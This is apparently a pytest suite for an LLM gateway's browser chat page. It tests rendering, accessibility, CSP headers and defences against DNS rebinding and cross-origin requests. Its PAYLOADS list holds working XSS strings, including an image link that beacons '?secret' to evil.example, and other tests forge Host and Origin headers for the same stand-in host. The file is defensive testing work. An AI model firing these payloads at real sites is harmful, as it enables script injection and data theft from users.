"""The chat page in a real Chromium, and what protects it; without a browser the tests in it are skipped."""

import asyncio
import hashlib
import json
import re

import pytest
import pytest_asyncio

from llmops.gateway.web.pages import ASSETS, assets
from tests.support.browser import ask, axe_faults, browser_page, for_the_docs, open_chat, started_browser, take_picture
from tests.support.gateway_stack import running
from tests.support.scripted_triton import Step
from tests.support.waiting import GENEROUS

pytestmark = pytest.mark.asyncio(loop_scope="module")

ANSWER = ".turn.assistant:not([aria-busy])"
LIVE = ".turn.assistant[aria-busy] .body"
# what a model, or a text that it repeats, may write to have a page run or fetch something
PAYLOADS = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg/onload=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "[a](javascript:window.hacked=1)",
    "[b](JaVaScRiPt&colon;window.hacked=1)",
    "[c](data:text/html,<script>window.hacked=1</script>)",
    "![d](https://evil.example/x.png?secret)",
    '[e](https://ok.example "onmouseover=window.hacked=1 x=")',
    "<a href='vbscript:x' onclick=window.hacked=1>f</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    '```"><img/src=x/onerror=window.hacked=1>\ncode</code><script>window.hacked=1</script>\n```',
    "| a | b |\n|---|---|\n| <form action=//evil.example><button>x</button></form> | <base href=//evil.example> |",
    "<div style=background:url(//evil.example/y)>g</div>",
    "<link rel=stylesheet href=//evil.example/z.css>",
]


@pytest_asyncio.fixture(loop_scope="module")
async def chat(card, tokenizer):
    async with running({**card, "max_seq_len": 16384}, tokenizer) as stack:
        yield stack


@pytest_asyncio.fixture(loop_scope="module")
async def page(chat, browser):
    async with browser_page(browser) as made:
        await open_chat(made, chat.url)
        yield made


async def test_a_chat_loads_nothing_from_elsewhere_and_breaks_no_policy(chat, page):
    chat.say("Here is **code**:\n\n```python\ndef add(a, b):\n    return a + b\n```\n\nDone.")
    await page.keyboard.type("Add two numbers\n")
    answer = page.locator(ANSWER)
    await answer.wait_for()
    assert await answer.locator("strong").inner_text() == "code"
    assert await answer.locator("pre .hljs-keyword").first.inner_text() == "def"
    assert re.match(r"tiny · \d+ \+ \d+ tokens", await answer.locator(".figures").inner_text())
    assert await page.locator(".chats .open").inner_text() == "Add two numbers"
    assert ({url.split("/")[2] for url in page.asked}, page.said) == ({chat.url.split("/")[2]}, [])


async def test_without_a_store_nothing_leads_to_the_administration(chat, page):
    assert await page.get_by_role("link", name="Export all").count() == 1
    assert await page.get_by_role("link", name="Administration").count() == 0
    await page.goto(f"{chat.url}/admin")
    await page.get_by_role("alert").filter(has_text="Start it with --store").wait_for()


async def test_a_page_that_is_loaded_again_shows_each_word_once(chat, page):
    text = "".join(f"word{number} " for number in range(60))
    chat.say(text, wait=0.01)
    await ask(page, "Count")
    await page.locator(LIVE, has_text="word3 ").wait_for()
    await page.locator(".chats .current", has_text="Count").wait_for()
    await page.reload()
    await page.locator(LIVE, has_text="word6 ").wait_for()
    await page.context.set_offline(True)
    await page.context.set_offline(False)
    await page.locator(ANSWER).wait_for()
    assert (await page.locator(f"{ANSWER} .body").inner_text()).split() == text.split()


async def test_a_message_that_was_not_answered_before_a_reload_is_there_to_be_sent_again(chat, page):
    chat.triton.script = lambda tensors: [Step(hang=True)]
    await ask(page, "Are you there?")
    await page.locator(".turn.assistant[aria-busy]").wait_for()
    await page.wait_for_url("**/#conv_*")
    await page.reload()
    async with asyncio.timeout(GENEROUS):
        while await page.locator("#message").input_value() != "Are you there?":
            await asyncio.sleep(0.05)
    chat.say("Yes.")
    await page.press("#message", "Enter")
    await page.locator(ANSWER).wait_for()
    assert await page.locator("#message").input_value() == ""


async def test_what_a_model_writes_runs_nothing_and_fetches_nothing(chat, page):
    chat.say("\n\n".join(PAYLOADS) + "\n\nThe end.")
    await ask(page, "<img src=x onerror=window.hacked=1>")
    await page.locator(ANSWER).wait_for()
    await page.get_by_text("The end.").wait_for()
    found = await page.evaluate(
        """() => ({
          hacked: window.hacked ?? null,
          tags: document.querySelectorAll('.log :is(script, img, svg, iframe, form, style, link, base, math)').length,
          handlers: [...document.querySelectorAll('.log *')].flatMap((one) => [...one.attributes])
            .filter((one) => /^on|style|src/.test(one.name)).length,
          links: [...document.querySelectorAll('.log a')].map((one) => one.getAttribute('href')),
        })"""
    )
    assert (found["hacked"], found["tags"], found["handlers"]) == (None, 0, 0)
    assert {link for link in found["links"] if link} == {"https://evil.example/x.png?secret", "https://ok.example"}
    assert not [url for url in page.asked if "evil" in url]
    # the user's message is shown as it was typed
    assert await page.locator(".turn.user .body").inner_text() == "<img src=x onerror=window.hacked=1>"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        pytest.param(">" * 5000 + "end", 3, id="quotes: the conversation could not be opened"),
        pytest.param("- " * 5000 + "end", 3, id="lists"),
        pytest.param("[" * 3000 + "]" * 3000, 6000, id="JSON: 6 KB became 18 MB"),
        pytest.param("```java\n" + "_" * 15_000 + "\n```", 15_000, id="code: 4 s"),
        pytest.param("a_" * 6000, 12_000, id="emphasis: quadratic"),
    ],
)
async def test_an_answer_that_is_hard_to_render_is_shown(chat, page, text, shown):
    chat.say(text)
    await ask(page, "Go on")
    answer = page.locator(ANSWER)
    await answer.wait_for()
    assert shown <= len(await answer.locator(".body").inner_text()) < 2 * shown + 10_000
    begun = await page.evaluate("performance.now()")
    await page.evaluate(
        "async (text) => { const { render } = await import('/assets/markdown.js'); render(text.repeat(3)) }", text
    )
    assert await page.evaluate("performance.now()") - begun < 3000
    assert page.said == []


async def test_the_work_for_a_token_does_not_grow_with_the_answer(page):
    changed = await page.evaluate(
        """async () => {
          const { LiveText } = await import('/assets/markdown.js')
          const run = (token, count) => {
            const element = document.body.appendChild(document.createElement('div'))
            const view = new LiveText(element)
            const sizes = []
            for (let at = 0; at < count; at++) {
              view.queue += token(at)
              const before = view.done.childNodes.length
              view.flush()
              // all that this token made the page render
              let size = view.plain ? token(at).length : view.tail.textContent.length
              for (const one of [...view.done.childNodes].slice(before)) size += one.textContent.length
              sizes.push(size)
            }
            const shown = element.textContent
            element.remove()
            return [Math.max(...sizes), shown.length]
          }
          const words = (at) => (at % 60 === 59 ? 'word.\\n\\n' : 'word ')
          const code = (at) => (at === 0 ? '```js\\n' : at % 9 === 8 ? 'x = 1\\n' : 'x + ')
          return [run(words, 5000), run((at) => 'word ', 5000), run(code, 5000)]
        }"""
    )
    for largest, shown in changed:
        assert largest <= 4100
        assert shown > 18_000


async def test_keys_a_reader_of_screens_and_a_phone_can_use_it(chat, page):
    await page.set_viewport_size({"width": 390, "height": 700})
    # axe takes a placeholder for a name
    unnamed = await page.evaluate(
        """() => [...document.querySelectorAll('button, input:not([hidden]), select, textarea')]
          .filter((one) => !(one.getAttribute('aria-label') || one.textContent.trim() || one.labels?.length))
          .map((one) => one.outerHTML)"""
    )
    assert unnamed == []
    assert await page.evaluate("document.documentElement.scrollWidth") <= 390
    chat.say("Hello", Step(hang=True))
    await ask(page, "Hi")
    await page.locator(LIVE).wait_for()
    await page.keyboard.press("Escape")
    await page.get_by_text("This answer was stopped.").wait_for()
    assert await page.get_by_role("status").inner_text() == "This answer was stopped, 1 words."


async def test_an_answer_that_a_safety_filter_ended_is_never_called_complete(card, tokenizer, browser):
    rules = {"filters": {"secrets": {"kind": "rules", "words": ["Paris"]}}, "policy": {"answer": {"secrets": "hold"}}}
    async with running(card, tokenizer, safety=rules) as chat, browser_page(browser) as page:
        await open_chat(page, chat.url)
        chat.say("It is Paris.", end=False)
        await ask(page, "Where?")
        await page.locator(ANSWER).get_by_text("A safety filter ended this answer.").wait_for()
        assert await page.get_by_role("status").inner_text() == "A safety filter ended this answer, 2 words."
        assert await page.get_by_role("button", name="Continue").count() == 0


async def test_axe_finds_no_serious_fault(chat, page):
    table = "|a|b|\n|-|-|\n|1|2|"
    chat.say(f"# Title\n\nA [link](https://ok.example), `code`, a table:\n\n{table}\n\n```python\nx = 1 # y\n```")
    await ask(page, "Show me")
    await page.locator(f"{ANSWER} pre").wait_for()
    for scheme, width in (("light", 1200), ("dark", 390)):
        await page.emulate_media(color_scheme=scheme)
        await page.set_viewport_size({"width": width, "height": 800})
        assert await axe_faults(page) == []
        await page.get_by_role("button", name="Settings").click()
        await page.get_by_role("dialog", name="Settings").wait_for()
        assert await axe_faults(page) == []
        await page.get_by_role("button", name="Done").click()
    await page.get_by_role("button", name="Chats").click()
    assert await axe_faults(page) == []


async def test_an_answer_is_edited_retried_and_branched_by_keyboard(chat, page):
    chat.say("The first answer.")
    await ask(page, "One")
    await page.get_by_text("The first answer.").wait_for()
    chat.say("The second answer.")
    await page.get_by_role("button", name="Retry").press("Enter")
    await page.get_by_text("The second answer.").wait_for()
    await page.get_by_role("button", name="Previous version").press("Enter")
    await page.get_by_text("The first answer.").wait_for()
    await page.get_by_role("button", name="Edit").press("Enter")
    chat.say("The third answer.")
    await page.locator("#message").fill("Two")
    await page.keyboard.press("Enter")
    await page.get_by_text("The third answer.").wait_for()
    assert await page.locator(".turn.user .body").inner_text() == "Two"
    await page.locator(".turn.user").get_by_role("button", name="Previous version").press("Enter")
    await page.locator(".turn.user .body", has_text="One").wait_for()
    assert re.match(r"The (first|second) answer\.", await page.locator(f"{ANSWER} .body").inner_text())


async def test_a_text_file_the_system_prompt_and_sampling_go_with_the_message(chat, page):
    await page.get_by_role("button", name="Settings").click()
    await page.get_by_label("System prompt").fill("Be brief.")
    # the page is rendered while the field is open
    await page.evaluate("""() => new Promise((rendered) => {
        const search = document.getElementById("search")
        search.value = "milk"
        search.dispatchEvent(new Event("input", {bubbles: true}))
        requestAnimationFrame(() => setTimeout(rendered, 50))
    })""")
    assert await page.get_by_label("System prompt").input_value() == "Be brief."
    await page.get_by_label("Temperature").fill("0.5")
    await page.get_by_role("button", name="Done").press("Enter")
    files = [
        {"name": "notes.txt", "mimeType": "text/plain", "buffer": b"Remember the milk."},
        {"name": "image.bin", "mimeType": "application/octet-stream", "buffer": b"a\0b"},
    ]
    await page.locator("input[type=file]").set_input_files(files)
    await page.get_by_text("image.bin is not a text file").wait_for()
    chat.say('{"milk": true}')
    await ask(page, "Read it")
    # an answer that is JSON is shown as code
    await page.locator(f"{ANSWER} .code .hljs-attr").wait_for()
    request = chat.triton.requests[-1]
    assert request["temperature"] == [0.5]
    prompt = chat.tokenizer.decode(request["input_ids"])
    for part in ("Be brief.", "File notes.txt", "Remember the milk.", "Read it"):
        assert part in prompt


@for_the_docs
async def test_pictures_of_a_chat_for_the_docs(chat, page):
    await page.set_viewport_size({"width": 1000, "height": 640})
    for title, answer in (("Plan a weekend in Berlin", "Gladly."), ("Why is the sky blue?", "Because of scattering.")):
        chat.say(answer)
        await ask(page, title)
        await page.get_by_text(answer).wait_for()
        await page.get_by_role("button", name="New chat").click()
    code = "def median(values):\n    ordered = sorted(values)\n    middle = len(ordered) // 2\n"
    code += "    if len(ordered) % 2:\n        return ordered[middle]\n"
    code += "    return (ordered[middle - 1] + ordered[middle]) / 2"
    chat.say(f"Sort the values and take the **middle** one:\n\n```python\n{code}\n```\n\nAn empty list has no median.")
    await ask(page, "Write a median function in Python")
    await page.locator(f"{ANSWER} pre").wait_for()
    await page.mouse.move(0, 0)
    await take_picture(page, "chat.png")
    await page.emulate_media(color_scheme="dark")
    await page.set_viewport_size({"width": 390, "height": 640})
    await take_picture(page, "chat-phone.png")


async def test_a_name_that_another_site_made_point_here_reaches_nothing(chat):
    """DNS rebinding, as a browser sees it: the same name, and another address behind it."""
    port = chat.url.rpartition(":")[2]
    resolved = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    async with started_browser(resolved) as browser, browser_page(browser) as page:
        assert (await page.goto(f"http://evil.example:{port}/")).status == 403
        reached = await page.evaluate(
            """async () => Promise.all(['/api/session', '/api/conversations', '/api/chat/completions'].map(
                 async (path) => (await fetch(path, path.endsWith('s') ? {} : { method: 'POST' })).status))"""
        )
        assert reached == [403, 403, 403]
        # nor does a foreign page by the right name, with a request that needs no permission from here
        body = json.dumps({"model": "tiny", "messages": [{"role": "user", "content": "Hello"}]})
        send = "([url, body]) => fetch(url, { method: 'POST', mode: 'no-cors', body }).then((answer) => answer.type)"
        assert await page.evaluate(send, [f"{chat.url}/api/chat/completions", body]) == "opaque"
    assert chat.triton.requests == []


async def test_the_page_is_small_and_its_policy_names_no_other_site(chat):
    headers = {"accept": "text/html", "accept-encoding": "gzip"}
    answer = await chat.client.get("/", headers=headers)
    policy = dict(part.split(" ", 1) for part in answer.headers["content-security-policy"].split("; "))
    assert policy["default-src"] == "'none'"
    assert policy["script-src"].startswith("'self' 'sha256-")
    assert all("http" not in sources and "unsafe" not in sources and "*" not in sources for sources in policy.values())
    size = 0
    for name in assets():
        # the server's bytes, still compressed
        async with chat.client.stream("GET", f"/assets/{name}", headers=headers) as file:
            assert file.status_code == 200
            size += len(b"".join([part async for part in file.aiter_raw()]))
    assert size < 250_000
    assert (await chat.client.get("/", headers={**headers, "if-none-match": answer.headers["etag"]})).status_code == 304
    assert (await chat.client.get("/")).json()["service"] == "llmops gateway"
    for name in ("../page.py", "%2e%2e/page.py", "vendor/vendor.json", "nothing.js"):
        assert (await chat.client.get(f"/assets/{name}")).status_code == 404


async def test_third_party_modules_are_those_of_their_packages():
    folder = ASSETS / "vendor"
    listed = {one["file"]: one for one in json.loads((folder / "vendor.json").read_text())}
    assert set(listed) == {file.name for file in folder.glob("*.js")}
    for name, one in listed.items():
        assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == one["sha256"], name
        assert one["license"]
        package = one["package"].removeprefix("@").replace("/", "-")
        assert f"==== {package}-{one['version']}" in (folder / "LICENSES.txt").read_text()


async def test_a_foreign_page_and_a_rebound_name_reach_nothing(chat):
    for headers, code in [
        ({"host": "evil.example"}, "unknown_host"),
        ({"host": "evil.example:9000"}, "unknown_host"),
        ({"host": "127.0.0.1.evil.example"}, "unknown_host"),
        ({"origin": "https://evil.example"}, "foreign_origin"),
        ({"origin": "null"}, "foreign_origin"),
        ({"sec-fetch-site": "cross-site"}, "foreign_origin"),
        ({"sec-fetch-site": "same-site"}, "foreign_origin"),
    ]:
        asked = [(method, "/api/conversations") for method in ("GET", "POST", "DELETE")]
        rebound = [("GET", "/v1/models"), ("GET", "/metrics"), ("POST", "/v1/chat/completions")]
        asked += rebound if code == "unknown_host" else []
        for method, path in (*asked, ("POST", "/api/chat/completions"), ("GET", "/api/session")):
            answer = await chat.client.request(method, path, headers=headers, json={})
            assert (answer.status_code, answer.json()["error"]["code"]) == (403, code), path
        page = await chat.client.get("/", headers={"accept": "text/html", **headers})
        # a link on another page leads to this one
        assert page.status_code == (200 if "sec-fetch-site" in headers else 403)


async def test_own_names_reach_the_page(chat):
    port = chat.url.rpartition(":")[2]
    for host in (
        f"localhost:{port}",
        "127.0.0.1",
        f"[::1]:{port}",
        "192.168.1.7:9000",
        "box.localhost",
        "gateway:9000",
        "b.local",
    ):
        headers = {"host": host, "origin": f"http://{host}", "sec-fetch-site": "same-origin"}
        assert (await chat.client.get("/api/session", headers=headers)).json()["signed_in"] is False
